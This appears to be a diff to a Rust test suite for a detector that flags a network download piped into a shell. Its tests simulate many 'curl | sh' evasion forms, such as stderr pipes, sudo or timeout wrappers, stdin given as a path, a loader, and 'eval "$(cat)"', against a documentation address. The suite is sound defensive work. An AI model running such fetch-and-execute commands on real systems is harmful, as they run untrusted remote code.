@@ -305,6 +305,7 @@ fn a_network_client_piped_into_a_shell_fires_whatever_the_order_and_names() {
         connect(52, T + 1),
         piped("id", 53, 51, (12, 0), T + 2),
         piped("uname -a", 54, 51, (12, 0), T + 3),
+        piped("hostname", 55, 51, (12, 0), T + 4),
     ];
     assert_eq!(fired(&mut pipes(), &loop_reader).len(), 1);
 
@@ -317,12 +318,114 @@ fn a_network_client_piped_into_a_shell_fires_whatever_the_order_and_names() {
     ];
     let found = fired(&mut pipes(), &wrapped);
     assert_eq!(found.len(), 1, "{found:?}");
-    assert_eq!(found[0]["run_by"], "bash");
+    assert_eq!(found[0]["run_by"], "sudo bash");
+    assert_eq!(found[0]["how"], "sudo reads its program from the pipe");
+}
+
+/// The forms an adversarial review found: writers crowded out, long pipelines, stderr, late or wrapped shells,
+/// stdin spelled as a path, interpreter options with values, a loader, `-s` on a renamed shell.
+#[test]
+fn pipes_fire_past_crowds_depth_stderr_wrappers_and_spellings() {
+    let fires = |label: &str, events: &[NodeEvent]| {
+        let found = fired(&mut pipes(), events);
+        assert_eq!(found.len(), 1, "{label}: {found:?}");
+    };
+    // `(true; true; true; true; curl …) | sh`: the newest writers are kept.
+    let mut crowd: Vec<NodeEvent> = (0..5).map(|n| piped("true", 200 + n, 199, (0, 30), T + n)).collect();
+    crowd.push(piped("curl -s http://203.0.113.9/c", 210, 199, (0, 30), T + 10));
+    crowd.push(piped("sh", 211, 198, (30, 0), T + 11));
+    crowd.push(connect(210, T + 12));
+    fires("crowded writers", &crowd);
+    // `curl | cat | cat | cat | cat | cat | sh`: six pipes, marked downstream whatever the order.
+    let mut long = vec![piped("sh", 300, 299, (46, 0), T)];
+    for stage in 0..5u64 {
+        long.push(piped("cat", 301 + stage as i64, 299, (41 + stage, 42 + stage), T + 1 + stage as i64));
+    }
+    long.push(piped("curl -s http://203.0.113.9/d", 310, 299, (0, 41), T + 10));
+    long.push(connect(310, T + 11));
+    fires("six stages", &long);
+    // `curl -so /dev/stderr URL 2>&1 >/dev/null | sh`: the pipe is on stderr.
+    let mut stderr = piped("curl -so /dev/stderr http://203.0.113.9/e", 320, 319, (0, 0), T);
+    stderr.stdio = vec!["null".into(), "null".into(), "pipe:[50]".into()];
+    fires("stderr", &[stderr, piped("sh", 321, 319, (50, 0), T + 1), connect(320, T + 2)]);
+    // `| (sleep 1; sh)` and `| timeout 9 timeout 9 sh`: a later process on the read end reads the program.
+    let late = [
+        piped("curl -s http://203.0.113.9/f", 330, 329, (0, 51), T),
+        piped("sleep 1", 331, 328, (51, 0), T + 1),
+        connect(330, T + 2),
+        piped("sh", 332, 328, (51, 0), T + 3),
+    ];
+    fires("sleep then sh", &late);
+    let timeouts = [
+        piped("curl -s http://203.0.113.9/g", 340, 339, (0, 52), T),
+        piped("timeout 9 timeout 9 sh", 341, 339, (52, 0), T + 1),
+        connect(340, T + 2),
+    ];
+    fires("timeout timeout sh", &timeouts);
+    // Stdin spelled as a path, interpreter options with values, a loader, a `-c` text that sources stdin.
+    for (n, reader) in [
+        "bash /dev/stdin",
+        "sh /proc/self/fd/0",
+        "python3 -E",
+        "python3 -W ignore",
+        "python3 /dev/stdin",
+        "ruby -rnet/http",
+        "perl -w",
+        "/lib64/ld-linux-x86-64.so.2 /bin/sh",
+        "bash -c source /dev/stdin",
+        "bash -c eval \"$(cat)\"",
+        "python3 -c exec(sys.stdin.read())",
+        "busybox sh -s",
+    ]
+    .into_iter()
+    .enumerate()
+    {
+        let n = n as i64;
+        let mut read = piped(reader, 401 + 10 * n, 399, (60 + n as u64, 0), T + 1);
+        for shell in ["bash", "python3"] {
+            if let Some(text) = reader.strip_prefix(&format!("{shell} -c ")) {
+                read.argv = vec![shell.into(), "-c".into(), text.into()];
+            }
+        }
+        let events = [
+            piped("curl -s http://203.0.113.9/h", 400 + 10 * n, 399, (0, 60 + n as u64), T),
+            read,
+            connect(400 + 10 * n, T + 2),
+        ];
+        fires(reader, &events);
+    }
+    // A renamed shell told `-s`: no operands for it.
+    let renamed = [
+        piped("/tmp/x -s foo", 501, 500, (70, 0), T),
+        piped("/tmp/f http://203.0.113.9/i", 502, 500, (0, 70), T + 1),
+        connect(502, T + 2),
+        piped("id", 503, 501, (70, 0), T + 3),
+        piped("uname", 504, 501, (70, 0), T + 4),
+    ];
+    fires("renamed shell -s", &renamed);
+}
+
+#[test]
+fn a_flood_of_pipes_does_not_push_out_one_that_can_fire() {
+    let mut detector = pipes();
+    let real = [piped("sh", 601, 600, (80, 0), T), piped("curl -s http://203.0.113.9/j", 602, 600, (0, 80), T + 1)];
+    assert!(fired(&mut detector, &real).is_empty());
+    // 1000 `: | cat >/dev/null` after it, each a pipe with a reader that runs nothing.
+    for n in 0..1000 {
+        let inode = 10_000 + n as u64;
+        fired(&mut detector, &[piped("cat", 700 + 2 * n, 699, (inode, 0), T + 2 + n)]);
+    }
+    assert_eq!(fired(&mut detector, &[connect(602, T + 2000)]).len(), 1, "the shell's pipe was kept");
 }
 
 #[test]
 fn pipes_that_do_not_run_a_download_stay_quiet() {
-    let quiet = [
+    let mut quiet = vec![
+        // `curl | (head -1; sort -k3)`: two programs on the read end from one subshell.
+        piped("curl -s http://203.0.113.9/t", 132, 130, (0, 23), T),
+        connect(132, T + 1),
+        piped("head -1", 133, 131, (23, 0), T + 2),
+        piped("sort -k3", 134, 131, (23, 0), T + 3),
         // `curl | tar xz`: tar starts one decompressor.
         piped("curl -sL http://203.0.113.9/a.tgz", 62, 60, (0, 13), T),
         piped("tar xz", 61, 60, (13, 0), T + 1),
@@ -344,10 +447,25 @@ fn pipes_that_do_not_run_a_download_stay_quiet() {
         piped("sh", 101, 100, (18, 0), T + 14),
         piped("id", 103, 101, (18, 0), T + 15),
         piped("uname", 104, 101, (18, 0), T + 16),
+        // `curl | ruby -e '…STDIN.read…'`: reads stdin as data.
+        piped("curl -s http://203.0.113.9/r", 152, 150, (0, 24), T + 17),
+        piped("ruby -e", 151, 150, (24, 0), T + 18),
+        connect(152, T + 19),
     ];
+    // The program texts as the kernel reports them: one argument each.
+    for event in &mut quiet {
+        let text = match event.argv.first().map(String::as_str) {
+            Some("python3") => "import json,sys; print(json.loads(sys.stdin.read())['items'])",
+            Some("bash") => "echo hi; cat /dev/stdin > /tmp/saved",
+            Some("ruby") => "puts STDIN.read.size",
+            _ => continue,
+        };
+        let flag = event.argv[1].clone();
+        event.argv = vec![event.argv[0].clone(), flag, text.into()];
+    }
     let mut detector = pipes();
     assert_eq!(fired(&mut detector, &quiet), Vec::<std::collections::BTreeMap<String, String>>::new());
-    // A connection an hour and more away from the writer's exec is not its download.
+    // A connection more than ten minutes away from the writer's exec is not its download (ids are reused).
     let stale = [connect(112, T), piped("curl -s http://203.0.113.9/s", 112, 110, (0, 19), T + 3_700_000)];
     let stale_reader = [piped("sh", 111, 110, (19, 0), T + 3_700_001)];
     let mut detector = pipes();
